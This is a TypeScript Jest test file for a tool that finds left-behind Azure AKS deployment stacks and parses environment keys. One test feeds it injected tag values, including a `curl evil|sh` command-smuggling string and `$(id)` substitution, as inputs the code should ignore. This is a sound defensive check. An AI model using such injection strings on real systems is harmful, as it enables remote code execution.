import { describe, expect, it } from '@jest/globals'
import type { StackState } from '../../../../src/azure/types.ts'
import {
  createBaseline,
  environmentKeyText,
  formerStackName,
  loadEnvironments,
  parseEnvironmentKey,
  stackName,
  stackTags
} from '../../../../src/config/index.ts'
import type { Baseline } from '../../../../src/config/types.ts'
import { findLeftBehind } from '../../../../src/provisioning/ownership/left-behind.ts'

const SOURCE = 'contoso/shop/aks-baseline.yml'
const FILE =
  'apiVersion: aks-baseline/v1\nworkload: shop\nenvironments: { production: { region: northeurope }, staging: { region: northeurope } }'

/** Returns `production` of a file with `production` and `staging`. `elsewhere`: keys in another file of the checkout. */
function production(source: string | null = SOURCE, elsewhere: readonly string[] = []): Baseline {
  const environments = loadEnvironments(FILE, 'aks-baseline.yml')
  const [config] = environments
  if (config === undefined) throw new Error('the file has no environment')
  const isInOtherFile = (_source: string, key: Parameters<typeof environmentKeyText>[0]) =>
    Promise.resolve(elsewhere.includes(environmentKeyText(key)))
  return createBaseline(config, '00000000-0000-0000-0000-000000000000', {
    environments,
    isInOtherFile,
    ...(source === null ? {} : { source })
  })
}

function stackOf(key: string, part: string, source?: string): StackState {
  const named = parseEnvironmentKey(key)
  if (named === undefined) throw new Error(`${key} does not name an environment`)
  const name = stackName(named, part)
  const tags = { ...stackTags(named, part), ...(source === undefined ? {} : { 'aks-baseline-source': source }) }
  return { id: `/stacks/${name}`, name, location: named.region, tags, properties: { provisioningState: 'succeeded' } }
}

async function found(stacks: readonly StackState[], baseline = production()) {
  const left = await findLeftBehind(stacks, baseline)
  return left.map(({ key, origin, stacks: own }) => [environmentKeyText(key), origin, own.length])
}

describe('findLeftBehind', () => {
  it('finds the environment in its former region', async () => {
    const stacks = ['spoke', 'hub-egress'].map(part => stackOf('shop/production/westeurope', part))
    expect(await found(stacks)).toEqual([['shop/production/westeurope', 'this-file', 2]])
  })

  it('finds nothing that the file contains', async () => {
    const own = ['shop/production/northeurope', 'shop/staging/northeurope'].map(key => stackOf(key, 'spoke'))
    expect(await found(own)).toEqual([])
  })

  it('leaves the former region of another environment to the plan of that environment', async () => {
    expect(await found([stackOf('shop/staging/westeurope', 'spoke', SOURCE)])).toEqual([])
  })

  it('does not know whether an environment of another name comes from this file', async () => {
    expect(await found([stackOf('shop/old/westeurope', 'spoke')])).toEqual([['shop/old/westeurope', 'unknown', 1]])
  })

  it('finds a renamed environment by its source, whatever the case', async () => {
    const [stack] = [stackOf('shop/old/westeurope', 'spoke', SOURCE.toUpperCase())]
    expect(await found([stack])).toEqual([['shop/old/westeurope', 'this-file', 1]])
  })

  it('finds a renamed workload only by its source', async () => {
    const renamed = [
      stackOf('store/production/westeurope', 'spoke', SOURCE),
      stackOf('crm/production/westeurope', 'spoke')
    ]
    expect(await found(renamed)).toEqual([['store/production/westeurope', 'this-file', 1]])
    expect(await found(renamed, production(null))).toEqual([])
  })

  it('leaves out an environment that another file of the checkout contains', async () => {
    const stacks = [stackOf('shop/test/westeurope', 'spoke', 'contoso/shop/test.yml')]
    expect(await found(stacks, production(SOURCE, ['shop/test/westeurope']))).toEqual([])
    expect(await found(stacks)).toEqual([['shop/test/westeurope', 'other-file', 1]])
  })

  it('does not take the same environment of another file for its own', async () => {
    const stacks = [stackOf('shop/production/westeurope', 'spoke', 'contoso/shop/west.yml')]
    expect(await found(stacks, production(SOURCE, ['shop/production/westeurope']))).toEqual([])
    expect(await found(stacks)).toEqual([['shop/production/westeurope', 'other-file', 1]])
  })

  it('leaves an environment of another repository to the file in its tag', async () => {
    const stacks = [stackOf('shop/prod2/westeurope', 'spoke', 'other/team/aks-baseline.yml')]
    expect(await findLeftBehind(stacks, production())).toMatchObject([
      { origin: 'other-file', otherSource: 'other/team/aks-baseline.yml' }
    ])
  })

  it('leaves an environment to another file after that file wrote one of its stacks', async () => {
    const stacks = [
      stackOf('shop/old/westeurope', 'spoke', SOURCE),
      stackOf('shop/old/westeurope', 'hub-egress', 'contoso/shop/west.yml')
    ]
    expect(await found(stacks)).toEqual([['shop/old/westeurope', 'other-file', 2]])
    expect(await found(stacks, production(SOURCE, ['shop/old/westeurope']))).toEqual([])
  })

  it.each([
    ['workload', 'shop`; curl evil|sh #'],
    ['environment', 'old -f confirm=production'],
    ['region', 'west$(id)'],
    ['region', 'westeurope\n']
  ])('ignores a stack whose tag for the %s no file can produce', async (part, value) => {
    const stack = stackOf('shop/old/westeurope', 'spoke', SOURCE)
    const tags = { ...stack.tags, [`aks-baseline-${part}`]: value }
    expect(await found([{ ...stack, tags }])).toEqual([])
  })

  it('finds a stack of the first format by its name and its resources', async () => {
    const key = { workload: 'shop', environment: 'production', region: 'westeurope' }
    const name = formerStackName(key, 'spoke')
    const resourcesIn = (group: string) => [
      {
        id: `/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/${group}/providers/Microsoft.Network/virtualNetworks/v`
      }
    ]
    const former = (group: string): StackState => ({
      ...{ id: `/stacks/${name}`, name, location: 'westeurope' },
      properties: { provisioningState: 'succeeded', resources: resourcesIn(group) }
    })
    expect(await found([former('rg-shop-production-spoke-westeurope')])).toEqual([
      ['shop/production/westeurope', 'this-file', 1]
    ])
    expect(await found([former('rg-of-somebody')])).toEqual([])
  })
})

describe('parseEnvironmentKey', () => {
  it.each(['shop', 'shop/production', 'shop/production/west europe', 'Shop/production/westeurope', '/a/b', 'a/b/c/d'])(
    'refuses %s',
    text => {
      expect(parseEnvironmentKey(text)).toBeUndefined()
    }
  )
})
